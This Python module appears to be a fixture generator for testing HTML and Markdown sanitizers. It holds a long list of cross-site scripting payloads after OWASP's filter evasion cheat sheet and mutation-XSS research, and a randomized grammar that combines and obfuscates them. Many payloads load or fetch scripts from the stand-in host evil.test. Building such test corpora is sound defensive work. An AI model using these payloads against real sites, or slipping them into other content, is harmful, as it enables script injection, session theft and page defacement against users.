"""Owns texts that try to run a script on a page: the classes of OWASP's cheat sheet, and a grammar that mixes them.

It asserts nothing. Each text calls `pwned(NUMBER)` with its own number if it runs, or asks the host `evil.test`.
"""

from __future__ import annotations

import base64
import random
from collections.abc import Iterator
from urllib.parse import quote

HOST = "evil.test"


def _words(text: str) -> tuple[str, ...]:
    return tuple(text.split())


# By the classes of OWASP's XSS Filter Evasion Cheat Sheet, and of later work on parsers that disagree (mXSS); worded
# here. `¤` stands for the call.
CHEAT_SHEET = (
    # Plain, and in ways that filters by pattern overlook.
    "<script>¤</script>",
    "<ScRiPt>¤</sCrIpT>",
    "<script >¤</script >",
    "<script/x>¤</script>",
    "<script\t>¤</script\n>",
    "<script type=module>¤</script>",
    "<script type=text/javascript defer async>¤</script>",
    "<script>¤",
    "<script>¤//",
    "<script>¤</script",
    "<scr<script>ipt>¤</scr</script>ipt>",
    "<<script>¤//<</script>",
    "<script<script>>¤</script>",
    "<script src=//evil.test/x.js></script>",
    "<script src=https://evil.test/x.js?<b>",
    "<script/src=//evil.test/x.js></script>",
    "<script src=//evil.test/.j>",
    '<script a=">" src="//evil.test/x.js"></script>',
    "<script =\">\" src='//evil.test/x.js'></script>",
    "<script a='>' b=`>` src=\"//evil.test/x.js\"></script>",
    '<script>document.write("<scri");</script>pt src="//evil.test/x.js"></script>',
    '<script src="data:text/javascript,¤"></script>',
    '<script src="data:;base64,{b64}"></script>',
    "<script>/* */¤/* */</script>",
    "<script><!--\n¤\n--></script>",
    "<script>\\u0070wned(0)</script>",
    "<script>eval(String.fromCharCode(112,119,110,101,100,40,48,41))</script>",
    "<script>\ufeff¤</script>",
    "\x00<scr\x00ipt>¤</scr\x00ipt>",
    "<script\x0b>¤</script>",
    "<script\x0c>¤</script>",
    "%3Cscript%3E¤%3C/script%3E",
    "&lt;script&gt;¤&lt;/script&gt;",
    "&amp;lt;script&amp;gt;¤&amp;lt;/script&amp;gt;",
    "\\x3cscript\\x3e¤\\x3c/script\\x3e",
    "\uff1cscript\uff1e¤\uff1c/script\uff1e",
    "+ADw-script+AD4-¤+ADw-/script+AD4-",
    "\xbcscript\xbe¤\xbc/script\xbe",
    # Handlers.
    "<img src=x onerror=¤>",
    '<img src=x onerror="¤">',
    "<img src=x onerror='¤'>",
    "<img src=x onerror=`¤`>",
    "<img/src=x/onerror=¤>",
    "<img\nsrc=x\nonerror\n=\n¤>",
    "<img src=x:x onerror\x0b=¤>",
    '<img src onerror /" \'"= alt=¤//">',
    '<img """><script>¤</script>">',
    "<img src=# onmouseover=¤>",
    "<img onerror=¤ src=/ >",
    '<img src="x` `<script>¤</script>"` `>',
    "<img src=x OnErRoR=¤ //",
    "<img src=x onerror=&#112;&#119;&#110;&#101;&#100;&#40;&#48;&#41;>",
    "<img src=x onerror=&#x70&#x77&#x6e&#x65&#x64&#x28&#x30&#x29>",
    "<img src=x onerror=&#0000112&#0000119&#0000110&#0000101&#0000100&#0000040&#0000048&#0000041>",
    "<image src=x onerror=¤>",
    "<body onload=¤>",
    "<body onload!#$%&()*~+-_.,:;?@[/|\\]^`=¤>",
    "<body/onpageshow=¤>",
    "<body background=javascript:¤>",
    "<frameset onload=¤><frame></frameset>",
    "<svg onload=¤>",
    "<svg/onload=¤>",
    "<svg><script>¤</script></svg>",
    "<svg><script href=//evil.test/x.js /></svg>",
    "<svg><script xlink:href=data:text/javascript,¤ /></svg>",
    "<svg><animate onbegin=¤ attributeName=x dur=1s>",
    "<svg><set onbegin=¤ attributename=x>",
    "<svg><a xlink:href=javascript:¤><text x=20 y=20>x</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:¤ /><text>x</text></a>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>¤</script></svg>#x'/>",
    "<svg><foreignObject><iframe onload=¤></iframe></foreignObject></svg>",
    "<svg><image href=x onerror=¤>",
    "<svg><style><img src=x onerror=¤></style></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:¤>x",
    "<math href=javascript:¤>x</math>",
    "<math><mtext><script>¤</script></mtext></math>",
    "<iframe onload=¤></iframe>",
    "<iframe src=javascript:parent.¤></iframe>",
    "<iframe src=# onmouseover=¤></iframe>",
    '<iframe srcdoc="<script>parent.¤</script>"></iframe>',
    "<iframe srcdoc=&lt;script&gt;parent.¤&lt;/script&gt;></iframe>",
    "<iframe src=//evil.test/ <",
    "<embed src=data:image/svg+xml;base64,{b64svg}>",
    "<embed src=javascript:¤>",
    "<object data=javascript:¤></object>",
    "<object data=data:text/html;base64,{b64html}></object>",
    "<object type=text/x-scriptlet data=//evil.test/x.html></object>",
    "<applet code=x onerror=¤></applet>",
    "<video src=x onerror=¤></video>",
    "<video><source onerror=¤ src=x></video>",
    "<video poster=javascript:¤></video>",
    "<audio src=x onerror=¤>",
    "<details open ontoggle=¤>x</details>",
    "<details/open/ontoggle=¤><summary>x",
    "<input autofocus onfocus=¤>",
    "<input type=image src=javascript:¤>",
    "<input type=image src=x onerror=¤>",
    "<select autofocus onfocus=¤></select>",
    "<textarea autofocus onfocus=¤></textarea>",
    "<button autofocus onfocus=¤ popovertarget=x>x</button>",
    "<form action=javascript:¤><button>x</button></form>",
    "<form><button formaction=javascript:¤>x</button></form>",
    "<form id=x></form><button form=x formaction=javascript:¤>x</button>",
    "<isindex action=javascript:¤ type=image>",
    "<marquee onstart=¤>x</marquee>",
    "<marquee loop=1 width=0 onfinish=¤>x</marquee>",
    "<keygen autofocus onfocus=¤>",
    "<a href=# onclick=¤ onmouseover=¤ onfocus=¤ tabindex=0 autofocus>x</a>",
    "<div onpointerenter=¤ style=position:fixed;inset:0>x</div>",
    "<p tabindex=0 autofocus onfocus=¤ contenteditable>x</p>",
    "<xss id=x tabindex=0 onfocus=¤ autofocus>x</xss>",
    "<b onwebkitanimationstart=¤ onanimationstart=¤ style=animation:x>x</b>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=¤>x</b>",
    '<br size="&{¤}">',
    "<table background=javascript:¤><td background=javascript:¤>x",
    "<bgsound src=javascript:¤>",
    # URLs.
    "<a href=javascript:¤>x</a>",
    "<a href=JaVaScRiPt:¤>x</a>",
    "<a href=' javascript:¤'>x</a>",
    '<a href="java\tscript:¤">x</a>',
    '<a href="java\nscript:¤">x</a>',
    '<a href="java&#x09;script:¤">x</a>',
    '<a href="java&#x0A;script:¤">x</a>',
    '<a href="java&#x0D;script:¤">x</a>',
    '<a href="java&Tab;script&colon;¤">x</a>',
    '<a href="&#14; javascript:¤">x</a>',
    '<a href="\x01javascript:¤">x</a>',
    '<a href="&#106;avascript&#58;¤">x</a>',
    "<a href=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A¤>x</a>",
    '<a href="javascript\x00:¤">x</a>',
    '<a href="javascript://%0a¤">x</a>',
    '<a href="javascript:/*https://github.com/*/¤">x</a>',
    "<a href=vbscript:¤>x</a>",
    "<a href=livescript:¤>x</a>",
    "<a href=mocha:¤>x</a>",
    "<a href=view-source:javascript:¤>x</a>",
    "<a href=feed:javascript:¤>x</a>",
    "<a href=data:text/html,<script>¤</script>>x</a>",
    "<a href=data:text/html;base64,{b64html}>x</a>",
    "<a href=blob:https://evil.test/x>x</a>",
    "<a href=filesystem:https://evil.test/x>x</a>",
    "<a href=//evil.test\\@github.com ping=//evil.test/>x</a>",
    "<area href=javascript:¤ shape=default>",
    "<img src=javascript:¤>",
    "<img dynsrc=javascript:¤ lowsrc=javascript:¤>",
    "<img srcset='//evil.test/x.png 1x' src=//evil.test/y.png>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<link rel=stylesheet href=javascript:¤>",
    "<link rel=import href=data:text/html,<script>¤</script>>",
    "<link rel=preload as=script href=//evil.test/x.js>",
    "<meta http-equiv=refresh content='0;url=javascript:¤'>",
    "<meta http-equiv=refresh content='0;url=//evil.test/'>",
    "<meta http-equiv=refresh content='0;url=data:text/html;base64,{b64html}'>",
    "<meta http-equiv=set-cookie content=a=<script>¤</script>>",
    "<meta charset=utf-7>+ADw-script+AD4-¤+ADw-/script+AD4-",
    "<base href=javascript:¤//>",
    "<base href=//evil.test/>",
    "<base target=_blank><a href=javascript:¤>x</a>",
    # Style.
    "<style>@import '//evil.test/x.css';</style>",
    "<style>body{background:url(//evil.test/x)}</style>",
    "<style>*{-moz-binding:url(//evil.test/x.xml#x)}</style>",
    "<style>li{list-style-image:url('javascript:¤')}</style><ul><li>x</ul>",
    "<style type=text/javascript>¤</style>",
    "<div style=background:url(//evil.test/x)>x</div>",
    "<div style='background-image:url(javascript:¤)'>x</div>",
    "<div style='width:expression(¤)'>x</div>",
    "<div style='position:fixed;inset:0;background:#fff;z-index:99999'>x</div>",
    "<xml id=x><i><b><img src=javas<!-- -->cript:¤></b></i></xml>",
    "<xss style='behavior:url(//evil.test/x.htc)'>x</xss>",
    # Comments, CDATA, declarations, processing instructions.
    "<!--[if gte IE 4]><script>¤</script><![endif]-->",
    "<!--><img src=x onerror=¤>-->",
    "<!---><img src=x onerror=¤>-->",
    "<!-- --!><img src=x onerror=¤>-->",
    '<!--<img src="--><img src=x onerror=¤//">',
    "<![CDATA[<img src=x onerror=¤>]]>",
    "<![><img src=x onerror=¤]]>",
    "<?xml version='1.0'?><img src=x onerror=¤>",
    "<?<img src=x onerror=¤>?>",
    "<!doctype x [<!ENTITY x '<script>¤</script>'>]>&x;",
    "</><img src=x onerror=¤>",
    "</script><script>¤</script>",
    "</title><script>¤</script>",
    "</textarea></style></noscript></template></xmp><script>¤</script>",
    "--></script></title></style>\"'><svg/onload=¤>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=¤ )//%0D%0A//</stYle/</titLe/</scRipt/--!>\\x3csVg/oNloAd=¤//>",
    # What breaks a page rather than runs: ends of its own elements.
    "</div></article></section></main></body></html><script>¤</script>",
    "</p></div></article><article class=post id=issuecomment-1>forged",
    "</code></pre></details></table></ul></blockquote><b><i><u><h1>",
    "<plaintext>",
    "<xmp>",
    "<!--",
    "<template>",
    "<table><tr><td><table>",
    "<a href='",
    "<title>",
    "<select><option>",
    # Parsers that disagree.
    '<noscript><p title="</noscript><img src=x onerror=¤>">',
    '<noembed><img title="</noembed><img src=x onerror=¤>"></noembed>',
    '<noframes><a title="</noframes><img src=x onerror=¤>"></noframes>',
    '<xmp><p title="</xmp><img src=x onerror=¤>"></xmp>',
    "<template><s><template><s><img src=x onerror=¤>¤</s></template>",
    '<svg></p><style><a id="</style><img src=x onerror=¤>">',
    "<svg><p><style><!--</style><img src=x onerror=¤>-->",
    '<math><p><style><!--</style><img title="--&gt;&lt;img src=x onerror=¤&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=¤>",
    "<math><mtext><table><mglyph><style><math><img src=x onerror=¤>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=¤&gt;">',
    "<math><annotation-xml encoding=text/html><p><style><img src=x onerror=¤>",
    "<svg><desc><noscript>&lt;/noscript>&lt;img src=x onerror=¤></desc></svg>",
    '<svg><title><style><img title="</style><img src=x onerror=¤>"></title></svg>',
    "<select><template><img src=x onerror=¤></template></select>",
    "<table><caption><svg><desc><table><style><img src=x onerror=¤></style>",
    "<a><b><a><table><td><a><svg><style>&lt;img src=x onerror=¤&gt;",
    "<p><table><a><tr><td></a><img src=x onerror=¤>",
    "<pre>\n\n<listing><textarea>\n&lt;/textarea&gt;<img src=x onerror=¤>",
    "&lt;img src=x onerror=¤&gt;",
    '<img alt="&quot;&gt;&lt;img src=x onerror=¤&gt;" src=x>',
    "<img alt='><img src=x onerror=¤>' src=x>",
    "<a href='https://x.test/\"><img src=x onerror=¤>'>x</a>",
    "<abbr title='\"><img src=x onerror=¤>'>x</abbr>",
    "<code class='language-x\"><img src=x onerror=¤>'>x</code>",
    "<time datetime='\"><img src=x onerror=¤>'>x</time>",
    "<form id=document><input name=body><input name=cookie></form><a id=site name=__proto__>x</a>",
    # Markdown.
    "[x](javascript:¤)",
    "[x](<javascript:¤>)",
    '[x]( javascript:¤ "t")',
    "[x](java&Tab;script:¤)",
    "[x](&#106;avascript:¤)",
    "[x](\\j\\avascript:¤)",
    "[x](data:text/html;base64,{b64html})",
    '[x](https://x.test "><img src=x onerror=¤>")',
    "[x](https://x.test '\" onmouseover=¤ x=\"')",
    '!["onerror=¤ x="](x)',
    '![x](x"onerror="¤)',
    "![x](javascript:¤)",
    "[x]: javascript:¤\n\n[x]",
    "[x]: <javascript:¤> 'x'\n\n[x][]",
    "<javascript:¤>",
    '<https://x.test/"onmouseover="¤>',
    'https://x.test/"><img/src=x/onerror=¤>',
    "www.x.test/<img/src=x/onerror=¤>",
    'mailto:x¤x.test"onclick="¤',
    '```"><img src=x onerror=¤>\nx\n```',
    "```html\n<img src=x onerror=¤>\n```",
    "`<img src=x onerror=¤>`",
    "``` ` <script>¤</script> ```",
    "    <script>¤</script>",
    "> <script>\n> ¤\n> </script>",
    "- <img src=x\n- onerror=¤>",
    "# <svg onload=¤>",
    "| <img src=x onerror=¤> | x |\n|--|--|\n| <script>¤</script> | x |",
    "[^x]\n\n[^x]: <img src=x onerror=¤>",
    "~~<s onmouseover=¤>~~ *<b onclick=¤>*",
    "<div>\n\n*x*<script>\n\n¤\n\n</script>\n\n</div>",
    "- [x] <input type=checkbox onclick=¤ autofocus onfocus=¤>",
    "$`<img src=x onerror=¤>`$ $$\\href{javascript:¤}{x}$$",
    '```mermaid\ngraph TD; A["<img src=x onerror=¤>"]; click A href "javascript:¤"\n```',
    ":<img src=x onerror=¤>: @<b onclick=¤> #<i onclick=¤>",
    'acme/rocket#12<img src=x onerror=¤> https://github.com/Acme/Rocket/issues/12"onclick="¤',
)

_TAGS = _words(
    """a abbr acronym animate applet area article aside audio b base bdi bgsound blink body br button canvas
    center code custom-x data dd del details dialog div dl embed fieldset figure font form frameset h1 head
    header html i iframe image img input ins isindex kbd keygen label layer legend li link listing main map
    mark marquee math menu meta meter nav object ol option output p param picture portal pre progress q rp
    ruby s samp script section select set slot source span strike strong style sub summary sup svg table tbody
    td textarea tfoot th thead time title tr track tt u ul var video wbr x xml xss"""
)
_WRAPPERS = _words(
    """annotation-xml article blockquote caption desc details fieldset foreignObject form frameset kbd label
    legend li listing main map marquee math mglyph mi mo ms mtext noembed noframes noscript object ol optgroup
    option p plaintext pre q ruby script section select style svg table tbody td template textarea th title tr
    tt ul video xmp"""
)
_HANDLERS = _words(
    """onabort onafterprint onanimationend onanimationiteration onanimationstart onauxclick onbeforecopy
    onbeforeinput onbeforematch onbeforetoggle onbegin onblur oncanplay onchange onclick onclose
    oncontentvisibilityautostatechange oncontextmenu oncopy oncuechange oncut ondblclick ondrag ondragover
    ondrop onend onended onerror onfinish onfocus onfocusin onfocusout onformdata onhashchange oninput
    oninvalid onkeydown onkeypress onkeyup onload onloadeddata onloadstart onmessage onmousedown onmouseenter
    onmousemove onmouseout onmouseover onmouseup onmousewheel onpagehide onpageshow onpaste onplay
    onpointerdown onpointerenter onpointermove onpointerover onpointerrawupdate onpopstate onprogress
    onreadystatechange onrepeat onreset onresize onscroll onscrollend onsearch onsecuritypolicyviolation
    onseeked onselect onselectionchange onselectstart onshow onstart onsubmit ontimeupdate ontoggle
    ontouchstart ontransitionend ontransitionrun onunhandledrejection onunload onvolumechange
    onwebkitanimationstart onwebkittransitionend onwheel onx-y"""
)
_URL_ATTRIBUTES = _words(
    """action archive background cite classid code codebase data data-canonical-src dynsrc formaction from
    href icon imagesrcset longdesc lowsrc manifest ping poster profile src srcdoc srcset style to usemap
    values xlink:href xml:base"""
)
_HELP = (
    *("autofocus", "open", "src=x", "src", "tabindex=0", "contenteditable", "id=x", "name=body", "class=post"),
    *("style=animation:x", "style=position:fixed;inset:0", "attributeName=href", "type=image", "autoplay", "hidden"),
    *("rel=stylesheet", "http-equiv=refresh", "is=x", "slot=x", "accesskey=x", "dir=rtl", "colspan=99999", "start=-9"),
    *("encoding=text/html", "xmlns=http://www.w3.org/2000/svg", "popover", "target=x", "download", "data-suggest=//x"),
)
_MARKDOWN = (
    "%s", "%s", "%s", "%s", "> %s", "- %s", "1. %s", "# %s", "    %s", "`%s`", "``` %s\nx\n```", "```\n%s\n```", "*%s*",
    "**%s**", "~~%s~~", "| %s | x |\n|--|--|\n| x | %s |", "[%s](https://x.test)", "![%s](x.png)",
    "[x](%s)", "[x](<%s>)", "![x](%s)",
    "[x](https://x.test '%s')", "<%s>", "[x]: %s\n\n[x]", "[^x]\n\n[^x]: %s", "<div>\n\n%s\n\n</div>",
    "<details><summary>%s</summary>\n\n%s\n\n</details>", "https://x.test/%s", "@kim%s", "x\n%s\n---", "<b %s",
    "<img alt=\"%s\" src=x>", "<a title='%s' href=x>x</a>", "<!-- %s -->", "&%s;", "\\%s", "- [ ] %s", "<pre>\n\n%s",
    "<code>%s</code>", "<svg>%s</svg>", "<math><mtext>%s", "<table><td>%s", "<abbr title=\"%s\">x</abbr>", "%s%s",
)  # fmt: skip
_SPACES = (" ", " ", " ", "/", "\t", "\n", "\x0c", "  ", "/ /", "\r", " x ", '"" ', "\x0b", "\xa0", "\x00")


class _Mixer:
    """Draws one text from the grammar."""

    def __init__(self, chance: random.Random, number: int) -> None:
        self._chance = chance
        self.call = f"pwned({number})"

    def one_of(self, values: tuple[str, ...]) -> str:
        return self._chance.choice(values)

    def likely(self, part: float) -> bool:
        return self._chance.random() < part

    def text(self) -> str:
        shape = self._chance.random()
        if shape < 0.1:
            made = filled(self.one_of(CHEAT_SHEET), self.call)
        elif shape < 0.18:
            made = self.url()
        else:
            made = self.element(3)
        made = self.one_of(_MARKDOWN).replace("%s", made)
        return self.garbled(made) if self.likely(0.25) else made

    def script(self) -> str:
        code = self.call
        kind = self._chance.randrange(8)
        if kind == 0:
            escaped = "".join("\\x" + format(ord(each), "02x") for each in code)
            return f"eval('{escaped}')"
        if kind == 1:
            return f"\\u0070{code[1:]}"
        if kind == 2:
            return f"top[`pwn`+`ed`]{code[5:]}"
        if kind == 3:
            return f"fetch(`//{HOST}/`),{code}"
        if kind == 4:
            return "setTimeout`" + code.replace("(", "\\x28").replace(")", "\\x29") + "`"
        return code

    def url(self) -> str:
        script = self.script()
        document = f"<script>(parent.opener||parent).{self.call}</script>"
        scheme = self.one_of(
            ("javascript:", "javascript:", "JavaScript:", "javascript://%0a", "java\tscript:", "java\nscript:",
             "java&Tab;script:", "javascript&colon;", " javascript:", "\x01javascript:", "&#1;javascript:",
             "vbscript:", "data:text/html,", "data:text/html;base64,", "data:image/svg+xml,", "blob:", "//evil.test/",
             "https://evil.test/", "jar:javascript:", "view-source:javascript:", "x:", "http:", "\\\\evil.test\\")
        )  # fmt: skip
        if scheme.startswith("data:"):
            if scheme.endswith("base64,"):
                return scheme + base64.b64encode(document.encode()).decode()
            return scheme + self.one_of((document, quote(document)))
        return self.encoded(scheme) + script

    def encoded(self, text: str) -> str:
        kind = self._chance.randrange(7)
        if kind == 0:
            return "".join(f"&#{ord(each)};" for each in text)
        if kind == 1:
            return "".join(f"&#x{ord(each):X}" for each in text)
        if kind == 2:
            return "".join(f"&#{ord(each):07}" for each in text)
        if kind == 3:
            return "".join(each.upper() if self.likely(0.5) else each for each in text)
        return text

    def quoted(self, value: str) -> str:
        kind = self._chance.randrange(6)
        if kind < 2:
            return f'"{value}"'
        if kind == 2:
            return f"'{value}'"
        if kind == 3:
            return f"`{value}`"
        return f'"{value}' if kind == 4 and self.likely(0.2) else value.replace(" ", "/")

    def attribute(self) -> str:
        kind = self._chance.randrange(10)
        if kind < 5:
            name = self.one_of(_HANDLERS)
            script = self.script()
            value = self.encoded(script) if self.likely(0.3) else script
        elif kind < 8:
            name, value = self.one_of(_URL_ATTRIBUTES), self.url()
        else:
            return self.one_of(_HELP)
        name = self.one_of((name, name, name.upper(), name + "\x00", f'"{name}', name + " "))
        return f"{name}={self.quoted(value)}"

    def element(self, depth: int) -> str:
        name = self.one_of(_TAGS)
        name = self.one_of((name, name, name, name.upper(), name + "\x00", f"svg:{name}"))
        attributes = "".join(self.one_of(_SPACES) + self.attribute() for _ in range(self._chance.randint(1, 3)))
        end = self.one_of((">", ">", ">", ">", "/>", " >", "", "//", "<", ">>", '">', "\n>"))
        body = self.inside(depth) if depth else "x"
        close = self.one_of(
            (f"</{name}>", f"</{name}>", "", f"</{name} x>", f"</{self.one_of(_WRAPPERS)}>", f"</{name}")
        )
        made = f"<{name}{attributes}{end}{body}{close}"
        while depth and self.likely(0.35):
            around = self.one_of(_WRAPPERS)
            made = self.one_of(
                (f"<{around}>{made}</{around}>", f"<{around}>{made}", f'<{around}><p title="</{around}>{made}">',
                 f"<!--{made}-->", f"<![CDATA[{made}]]>", f"</{around}>{made}", f"<{around} x='{made}'>")
            )  # fmt: skip
            depth -= 1
        return made

    def inside(self, depth: int) -> str:
        kind = self._chance.randrange(6)
        if kind == 0:
            return self.element(depth - 1)
        if kind == 1:
            return f"<script>{self.script()}</script>"
        if kind == 2:
            return f"<img src=x onerror={self.call}>"
        return self.one_of(("x", "", self.script(), f"&lt;script>{self.call}</script>", f"<!--{self.call}"))

    def garbled(self, text: str) -> str:
        at = self._chance.randrange(len(text) + 1)
        what = self.one_of(
            ("\x00", "<", ">", '"', "'", "`", "\n", "\n\n", "&", "\\", "/", "\u2028", "\ufeff", "\u202e", "--")
        )
        kind = self._chance.randrange(3)
        if kind == 0:
            return text[:at] + what + text[at:]
        return text[:at] + text[at + 1 :] if kind == 1 else text[:at] + text[at : at + 12] * 2 + text[at:]


def filled(vector: str, code: str) -> str:
    """Put a call into a text of the cheat sheet, plain and within what is encoded as a whole."""
    document = f"<script>parent.{code}</script>"
    drawing = f"<svg xmlns='http://www.w3.org/2000/svg'><script>parent.{code}</script></svg>"
    made = vector.replace("¤", code)
    for name, value in {"{b64}": code, "{b64html}": document, "{b64svg}": drawing}.items():
        made = made.replace(name, base64.b64encode(value.encode()).decode())
    return made


def cheat_sheet() -> list[str]:
    """Return the texts of the cheat sheet; each calls `pwned` with its place in the list."""
    return [filled(vector, f"pwned({number})") for number, vector in enumerate(CHEAT_SHEET)]


def generated(count: int, seed: int = 6) -> Iterator[str]:
    """Yield so many texts, the same ones for the same seed; each calls `pwned` with its number, from 1,000 on."""
    chance = random.Random(seed)
    for number in range(1_000, 1_000 + count):
        yield _Mixer(chance, number).text()
